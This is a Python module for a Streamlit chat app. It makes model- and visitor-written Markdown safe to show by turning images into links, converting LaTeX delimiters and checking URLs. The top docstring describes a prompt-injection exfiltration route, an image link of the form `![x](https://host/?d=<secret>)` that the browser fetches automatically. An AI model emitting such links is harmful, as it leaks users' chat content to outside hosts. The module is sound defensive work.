"""Markdown written by models and visitors, made safe to show.

An image in Markdown is fetched by the visitor's browser the moment it is drawn, so a prompt-injected
model could send chat content anywhere with `![x](https://host/?d=<secret>)`. Every image becomes a
link instead (a click opens it); everything else, code included, is left as it was. Short labels
(titles, model names, error details) are shown as plain text: nothing in them is Markdown.

A URL from outside (a provider's sources, a search, an import) becomes a link only when it is an http(s)
URL with nothing in it that could end the link early: a newline there ends the link, and what follows
(an image, say) is Markdown of its own.
"""
from __future__ import annotations

import re
import textwrap
from collections.abc import Callable, Iterator
from urllib.parse import urlsplit

from markdown_it import MarkdownIt
from markdown_it.token import Token
from mdit_py_plugins.footnote import footnote_plugin

# What Streamlit's own renderer reads: CommonMark plus GitHub's tables, strikethrough and footnotes
# (a footnote's text is Markdown too, and its indented lines are not code).
_PARSER = MarkdownIt("commonmark").enable(["table", "strikethrough"]).use(footnote_plugin, inline=False)
IMAGE_MARK = ":material/image: "  # an icon (no emoji font needed), then the link
_IMAGE_START = re.compile(r"(?<!\\)!\[")
_CODE_SPAN = re.compile(r"(`+)[\s\S]*?(?<!`)\1(?!`)")
_INLINE_MARKUP = re.compile(r"([\\`*_\[\]()!|~<>$#&])")  # what starts or ends inline Markdown
_BLOCK_START = re.compile(r"^(\d*)([-+=.)])")  # a list item ("- ", "1. ") or a heading underline at the start
# Streamlit's renderer also reads `$…$` and `$$` blocks as math and `:name[…]` / `:::` as directives, and
# matches footnote labels ignoring case; markdown-it does none of these. Each can swallow the backtick or
# fence that made something look like code, or show a footnote markdown-it drops: where they appear,
# code is not trusted to hide an image and every `![` outside what is surely code is changed.
_UNSURE_BLOCKS = re.compile(r"^[ \t>*+\-\d.)]*(?:\$\$|:::)", re.MULTILINE)
_UNSURE_SPANS = re.compile(r"\$|:[A-Za-z][\w-]*[\[{]")
_LINE = re.compile(r"[^\r\n]*(?:\r\n?|\n)|[^\r\n]+")  # lines as markdown-it counts them


def _tokens(tokens: list[Token]) -> Iterator[Token]:
    for token in tokens:
        yield token
        if token.children:
            yield from _tokens(token.children)


def as_streamlit_reads(text: str) -> str:
    """st.markdown dedents and strips its text before parsing: indentation on every line is not code there."""
    return textwrap.dedent(text).strip()


def has_images(text: str) -> bool:
    """Whether st.markdown(text) would draw an image, as far as markdown-it can tell."""
    return _parses_images(as_streamlit_reads(text))


def _parses_images(text: str) -> bool:
    return "![" in text and any(token.type == "image" for token in _tokens(_PARSER.parse(text)))


def _code_lines(text: str) -> set[int]:
    """The lines inside fenced or indented code blocks."""
    lines: set[int] = set()
    for token in _PARSER.parse(text):
        if token.type in ("fence", "code_block") and token.map:
            lines.update(range(*token.map))
    return lines


def _outside_code(text: str, change: Callable[[str], str], trust_code: bool = False) -> str:
    """`change` applied to the text outside code blocks and code spans, unless math could hide what is code
    (`trust_code`: code is left alone whatever else the text holds)."""
    if not trust_code and _UNSURE_BLOCKS.search(text):
        return change(text)
    code = _code_lines(text)
    lines = _LINE.findall(text)
    out, prose = [], []

    def flush() -> None:
        chunk = "".join(prose)
        parts, last = [], 0
        for span in [] if not trust_code and _UNSURE_SPANS.search(chunk) else _CODE_SPAN.finditer(chunk):
            parts += [change(chunk[last:span.start()]), span.group()]
            last = span.end()
        out.append("".join(parts) + change(chunk[last:]))
        prose.clear()

    for index, line in enumerate(lines):
        if index in code:
            flush()
            out.append(line)
        else:
            prose.append(line)
    flush()
    return "".join(out)


def _unsure(text: str) -> bool:
    """Whether Streamlit may read this text differently from markdown-it (math, directives, footnotes)."""
    return "[^" in text or bool(_UNSURE_SPANS.search(text) or _UNSURE_BLOCKS.search(text))


def defuse_images(text: str) -> str:
    """The Markdown with every image turned into a link to it (for st.markdown, which reads it dedented);
    text without images is returned as is."""
    shown = as_streamlit_reads(text)
    if "![" not in shown or not (_unsure(shown) or _parses_images(shown)):
        return text
    linked = _outside_code(shown, lambda prose: _IMAGE_START.sub(IMAGE_MARK + "[", prose))
    if _parses_images(linked):  # a construct the code scan misread: change code too rather than load an image
        linked = shown.replace("![", IMAGE_MARK + "[")
    return linked if not _parses_images(linked) else plain_text(text)


# LaTeX delimiters as Qwen and DeepSeek write them; Streamlit's KaTeX reads only `$…$` and `$$…$$`. Not after
# a backslash (`\\(` is an escaped backslash then a parenthesis), never empty, never across a blank line.
_INLINE_MATH = re.compile(r"(?<!\\)\\\((?!\s*\\\))((?:(?!\n[ \t>]*\n)[\s\S])+?)(?<!\\)\\\)")
_DISPLAY_MATH = re.compile(r"(?<!\\)\\\[(?!\s*\\\])((?:(?!\n[ \t>]*\n)[\s\S])+?)(?<!\\)\\\]")
_LINE_PREFIX = re.compile(r"[ \t>]*$")  # what may stand before display math on its line: indentation, quotes


def _display(prose: str, match: re.Match[str]) -> str:
    """`\\[ … \\]` alone on its line(s) becomes a `$$` block (with the line's indentation or quote marks);
    inside a sentence, `$$…$$` in the text."""
    start = prose.rfind("\n", 0, match.start()) + 1
    prefix = prose[start:match.start()]
    after = prose[match.end():]
    alone = _LINE_PREFIX.fullmatch(prefix) and (after.startswith(("\n", "\r")) or not after.strip(" \t"))
    body = match.group(1).strip()
    if ">" in prefix:  # the quote marks of the lines inside are kept; those around the ends are not doubled
        body = re.sub(r"^[\s>]+|[\s>]+$", "", body)
    if not alone:
        return f"$${body}$$"
    return f"$$\n{prefix}{body}\n{prefix}$$"


def _math_in_prose(prose: str) -> str:
    prose = _DISPLAY_MATH.sub(lambda match: _display(prose, match), prose)
    return _INLINE_MATH.sub(lambda match: f"${match.group(1).strip()}$", prose)


def convert_math(text: str) -> str:
    """`\\( … \\)` and `\\[ … \\]` as `$…$` and `$$…$$` for Streamlit's KaTeX, outside code blocks and code
    spans (found by markdown-it, as Streamlit's renderer would); text without them is returned as is."""
    if "\\(" not in text and "\\[" not in text:
        return text
    return _outside_code(as_streamlit_reads(text), _math_in_prose, trust_code=True)


def for_streamlit(text: str) -> str:
    """A model's or visitor's Markdown as st.markdown should get it: math converted, images made links."""
    return defuse_images(convert_math(text))


def clip_long_strings(value: object, limit: int = 2_000) -> object:
    """A copy of a JSON value for display, each string longer than `limit` cut with how much is left."""
    if isinstance(value, str) and len(value) > limit:
        return f"{value[:limit]}… ({len(value) - limit:,} more characters)"
    if isinstance(value, dict):
        return {key: clip_long_strings(item, limit) for key, item in value.items()}
    if isinstance(value, list):
        return [clip_long_strings(item, limit) for item in value]
    return value


MAX_URL_CHARS = 4000


def web_link_url(value: object) -> str:
    """The value when it is an http(s) URL with a host that can stand in a link as it is (at most MAX_URL_CHARS,
    no whitespace, control or other invisible characters); "" otherwise."""
    if not isinstance(value, str) or len(value) > MAX_URL_CHARS or " " in value or not value.isprintable():
        return ""  # isprintable: no other whitespace, line or paragraph separator, control or format character
    try:
        parts = urlsplit(value)
    except ValueError:  # a malformed [IPv6] host
        return ""
    return value if parts.scheme.lower() in ("http", "https") and parts.hostname else ""


def link_safe(url: str) -> str:
    """A checked URL as a link destination between `<` and `>`: what would end it or escape its end encoded."""
    return url.replace("\\", "%5C").replace("<", "%3C").replace(">", "%3E")


def markdown_link(label: str, url: object) -> str:
    """`[label](<url>)` when the URL passes web_link_url, else the label alone (`label`: Markdown already safe)."""
    checked = web_link_url(url)
    return f"[{label}](<{link_safe(checked)}>)" if checked else label


def plain_text(text: str) -> str:
    """Text that Streamlit shows exactly as written, on one line: every Markdown character escaped, and
    Streamlit's own `:color[...]` / `:material/icon:` directives broken with a zero-width space."""
    flat = _INLINE_MARKUP.sub(r"\\\1", " ".join(text.split()))
    return _BLOCK_START.sub(r"\1\\\2", flat).replace(":", ":\u200b")
